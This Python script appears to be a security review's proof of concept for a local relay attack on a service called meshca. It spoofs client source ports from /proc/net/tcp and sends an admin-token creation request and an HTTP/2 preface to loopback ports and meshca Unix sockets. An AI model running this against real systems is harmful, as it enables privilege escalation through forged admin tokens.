"""The review's relay attack, run as an unprivileged local process (stdlib only, any python3).

Given meshca's loopback ports, it reads every established connection to them from
/proc/net/tcp, binds 127.0.0.2 to the client-side port of each (the trick that fooled a table
keyed by source port), and sends a plaintext admin request and a plaintext gRPC preface to each
port; it also tries to connect to every Unix socket whose path mentions meshca. It prints JSON:
what it tried and every byte it got back.
"""

import json
import socket
import sys
from pathlib import Path
from typing import Any

_BODY = b'{"role": "admin", "name": "stolen-by-attacker"}'
ADMIN_REQUEST = (b"POST /v1/admin-tokens HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                 b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
                 % (len(_BODY), _BODY))
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")


def established_client_ports(server_ports: set[int]) -> dict[int, list[int]]:
    """For each server port, the client-side ports of the connections established to it."""
    found: dict[int, list[int]] = {port: [] for port in server_ports}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            local, remote, state = fields[1], fields[2], fields[3]
            remote_port = int(remote.rsplit(":", 1)[1], 16)
            if state == "01" and remote_port in found:
                found[remote_port].append(int(local.rsplit(":", 1)[1], 16))
    return found


def probe(port: int, source_port: int | None, payload: bytes) -> dict[str, Any]:
    """Send `payload`; return every byte that came back within 2 s (and why it stopped)."""
    sock = socket.socket()
    sock.settimeout(2)
    data = b""
    stopped = "closed"
    try:
        if source_port is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind(("127.0.0.2", source_port))
        sock.connect(("127.0.0.1", port))
        sock.sendall(payload)
        while len(data) < 65536:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError as exc:
        stopped = type(exc).__name__
    finally:
        sock.close()
    return {"port": port, "source_port": source_port, "reply": data.decode("latin-1"),
            "stopped": stopped}


def main() -> None:
    ports = [int(p) for p in sys.argv[1].split(",")]
    results: dict[str, Any] = {"tcp": [], "unix": []}
    sources = established_client_ports(set(ports))
    for port in ports:
        for source in [None, *sources[port][:16]]:
            for payload in (ADMIN_REQUEST, H2_PREFACE):
                results["tcp"].append(probe(port, source, payload))
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        fields = line.split()
        if len(fields) >= 8 and "meshca" in fields[7]:
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(2)
            try:
                sock.connect(fields[7])
                sock.sendall(H2_PREFACE)
                results["unix"].append({"path": fields[7], "connected": True})
            except OSError as exc:
                results["unix"].append({"path": fields[7], "error": type(exc).__name__})
            finally:
                sock.close()
    results["established"] = sum(len(v) for v in sources.values())
    print(json.dumps(results))


main()
